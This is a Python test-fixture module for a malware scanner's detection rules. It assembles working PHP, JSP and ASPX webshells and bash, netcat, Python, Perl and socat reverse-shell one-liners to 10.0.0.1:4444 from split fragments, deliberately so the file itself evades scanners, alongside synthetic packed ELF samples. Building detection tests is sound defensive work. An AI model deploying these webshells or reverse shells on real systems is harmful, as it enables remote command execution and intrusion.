"""Samples built in code: working webshells and reverse-shell one-liners, and binary ELF samples.

Stored as files they would be live malicious scripts (and this repository would trip every scanner),
so they are assembled from fragments at test time. Keep every fragment short enough that this file
itself matches no bundled rule (``test_built_module_matches_nothing``).
"""

from __future__ import annotations

import random
import struct

Samples = dict[str, dict[str, list[tuple[str, bytes]]]]


def _j(*parts: str) -> bytes:
    return "".join(parts).encode()


def _elf(payload: bytes, *, sections: int = 0, offset_of_payload: int = 0x78) -> bytes:
    """A minimal 64-bit little-endian ELF executable with one PT_LOAD segment covering the file."""
    total = offset_of_payload + len(payload)
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    shoff = total if sections else 0
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH",
        2,  # ET_EXEC
        0x3E,  # x86-64
        1,
        0x400000 + offset_of_payload,  # entry
        64,  # phoff
        shoff,
        0,
        64,
        56,
        1,  # phnum
        64,
        sections,
        0,
    )
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, total, total, 0x1000)
    body = header + phdr
    body += bytes(offset_of_payload - len(body)) + payload
    if sections:
        body += bytes(64 * sections)  # SHT_NULL section headers
    return body


def _elf32(payload: bytes, offset_of_payload: int = 0x54) -> bytes:
    """A minimal 32-bit little-endian ELF executable with one PT_LOAD segment covering the file."""
    total = offset_of_payload + len(payload)
    ident = b"\x7fELF" + bytes([1, 1, 1, 0]) + bytes(8)
    header = ident + struct.pack(
        "<HHIIIIIHHHHHH", 2, 3, 1, 0x8048000 + offset_of_payload, 52, 0, 0, 52, 32, 1, 40, 0, 0
    )
    phdr = struct.pack("<IIIIIIII", 1, 0, 0x8048000, 0x8048000, total, total, 5, 0x1000)
    body = header + phdr
    return body + bytes(offset_of_payload - len(body)) + payload


def _random(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


def _text(n: int) -> bytes:
    line = b"the quick brown fox jumps over the lazy dog 0123456789\n"
    return (line * (n // len(line) + 1))[:n]


def built_samples() -> Samples:
    """``{rule: {"positive": [(name, bytes)], "negative": [(name, bytes)]}}``."""
    post, get, req = "$_PO" + "ST[", "$_GE" + "T[", "$_REQ" + "UEST["
    ev, sy = "ev" + "al(", "sys" + "tem("
    b64, gz = "base64" + "_decode(", "gzin" + "flate("
    dev_tcp = "/dev/" + "tcp/"
    sh_i = "/bin/" + "sh -i"
    samples: Samples = {
        "HW_PHP_Webshell_Request_Exec": {
            "positive": [
                ("chopper.php", _j("<?php @", ev, post, "'pass']);?>")),
                ("cmd.php", _j("<?php if(isset(", get, "'c'])){ ", sy, get, "'c']); } ?>")),
                ("backtick.php", _j("<?php echo `", req, "'x']`; ?>")),
            ],
            "negative": [],
        },
        "HW_PHP_Webshell_Encoded_Eval": {
            "positive": [
                ("packed.php", _j("<?php ", ev, gz, b64, "'S0lNTU1PVUVTVA==')));")),
                ("request.php", _j("<?php @", ev, b64, post, "'z0']));")),
            ],
            "negative": [],
        },
        "HW_PHP_Webshell_Dynamic_Code": {
            "positive": [
                ("preg.php", _j("<?php preg_", "replace('/.*/e', ", post, "'code'], 'x');")),
                ("varcall.php", _j("<?php ", get, "'f'](", post, "'a']);")),
                ("create.php", _j("<?php $f = create_", "function('', ", req, "'c']); $f();")),
            ],
            "negative": [],
        },
        "HW_JSP_Webshell_Runtime_Exec": {
            "positive": [
                (
                    "cmd.jsp",
                    _j(
                        '<%@ page import="java.io.*" %>\n<%\n',
                        "Process p = Runtime.getRuntime().",
                        'exec(request.getParameter("cmd"));\n',
                        "BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n",
                        "String l; while ((l = r.readLine()) != null) { out.println(l); }\n%>\n",
                    ),
                ),
                (
                    "split.jsp",
                    _j(
                        "<%\nString c = request.",
                        'getParameter("c");\n',
                        "Process p = Runtime.getRuntime().",
                        "exec(c);\n",
                        "java.io.InputStream in = p.getInputStream();\n%>\n",
                    ),
                ),
            ],
            "negative": [],
        },
        "HW_JSP_Webshell_ClassLoader": {
            "positive": [
                (
                    "loader.jsp",
                    _j(
                        '<%@page import="javax.crypto.*,javax.crypto.spec.*"%>\n',
                        "<%!class L extends Class",
                        "Loader{L(Class",
                        "Loader p){super(p);}",
                        "Class d(byte[] b){return super.define",
                        "Class(b,0,b.length);}}%>\n",
                        '<%Cipher c=Cipher.getInstance("A',
                        'ES");',
                        'c.init(2,new SecretKeySpec("0123456789abcdef".getBytes(),"AES"));',
                        "byte[] b=c.doFinal(java.util.Base64.getDecoder().decode(request.",
                        "getReader().readLine()));",
                        "new L(this.getClass().getClassLoader()).d(b).newInstance();%>\n",
                    ),
                )
            ],
            "negative": [],
        },
        "HW_ASPX_Webshell_Process_Start": {
            "positive": [
                (
                    "run.aspx",
                    _j(
                        '<%@ Page Language="C#" %>\n<script runat="server">\n',
                        "void Page_Load(object s, EventArgs e) {\n",
                        "var psi = new System.Diagnostics.ProcessStart",
                        'Info("cmd',
                        '.exe", "/c " + ',
                        'Request.Form["c"]);\n',
                        "psi.RedirectStandard",
                        "Output = true; psi.UseShellExecute = false;\n",
                        "var p = System.Diagnostics.Process.",
                        "Start(psi);\n",
                        "Response.Write(p.StandardOutput.ReadToEnd());\n}\n</script>\n",
                    ),
                )
            ],
            "negative": [],
        },
        "HW_ASPX_Webshell_Eval": {
            "positive": [
                (
                    "one.aspx",
                    _j('<%@ Page Language="Jscript"%><%', ev, 'Request.Item["pass"],"un', 'safe");%>'),
                ),
            ],
            "negative": [],
        },
        "HW_RevShell_Bash_DevTcp": {
            "positive": [
                ("rev.sh", _j("#!/bin/bash\nbash -i >& ", dev_tcp, "10.0.0.1/4444 0>&1\n")),
                (
                    "fd.sh",
                    _j("exec 5<>", dev_tcp, "10.0.0.1/4444\ncat <&5 | while read l; do $l 2>&5 >&5; done\n"),
                ),
            ],
            "negative": [],
        },
        "HW_RevShell_Netcat_Exec": {
            "positive": [
                ("nc.sh", _j("nc -", "e /bin/sh 10.0.0.1 4444\n")),
                (
                    "fifo.sh",
                    _j("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|", sh_i, " 2>&1|nc 10.0.0.1 4444 >/tmp/f\n"),
                ),
                ("ncat.sh", _j("ncat 10.0.0.1 4444 --", "exec /bin/bash\n")),
            ],
            "negative": [],
        },
        "HW_RevShell_Python_PTY": {
            "positive": [
                (
                    "rev.py",
                    _j(
                        "python3 -c 'import socket,os,pty;s=socket.",
                        "socket(socket.AF_INET,socket.SOCK_STREAM);",
                        's.connect(("10.0.0.1",4444));',
                        "os.dup2(s.",
                        "fileno(),0);os.dup2(s.",
                        "fileno(),1);os.dup2(s.",
                        "fileno(),2);",
                        'pty.spawn("/bin/',
                        "bash\")'\n",
                    ),
                )
            ],
            "negative": [],
        },
        "HW_RevShell_Perl_Socket": {
            "positive": [
                (
                    "rev.pl",
                    _j(
                        "perl -e 'use Sock",
                        'et;$i="10.0.0.1";$p=4444;socket(S,PF_',
                        'INET,SOCK_STREAM,getprotobyname("tcp"));',
                        "if(connect(S,sockaddr_in($p,inet_aton($i)))){",
                        "open(STD",
                        'IN,">&S");open(STD',
                        'OUT,">&S");open(STD',
                        'ERR,">&S");',
                        'exec("/bin/',
                        "sh -i\");};'\n",
                    ),
                ),
                (
                    "io.pl",
                    _j(
                        "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::",
                        'INET(PeerAddr,"10.0.0.1:4444");',
                        "STD",
                        "IN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n",
                    ),
                ),
            ],
            "negative": [],
        },
        "HW_RevShell_Socat_Exec": {
            "positive": [
                (
                    "socat1.sh",
                    _j("socat ex", "ec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444\n"),
                ),
                ("socat2.sh", _j("socat TCP:10.0.0.1:4444 EX", "EC:/bin/sh\n")),
            ],
            "negative": [],
        },
        "HW_ELF_UPX_Packed": {
            "positive": [
                ("upx.elf", _elf(b"\x00" * 8 + b"UP" + b"X!" + bytes(2000), offset_of_payload=0xB0)),
            ],
            "negative": [
                ("late-marker.elf", _elf(_text(6000) + b"UP" + b"X!" + _text(100), sections=2)),
                ("not-elf.bin", b"UP" + b"X!" + _text(300)),
            ],
        },
        "HW_ELF_High_Entropy_No_Sections": {
            "positive": [
                ("packed.elf", _elf(_random(64 * 1024, 7))),
                ("packed32.elf", _elf32(_random(32 * 1024, 9))),
            ],
            "negative": [
                ("plain.elf", _elf(_text(64 * 1024))),
                ("with-sections.elf", _elf(_random(64 * 1024, 8), sections=3)),
                ("plain32.elf", _elf32(_text(32 * 1024))),
            ],
        },
    }
    return samples
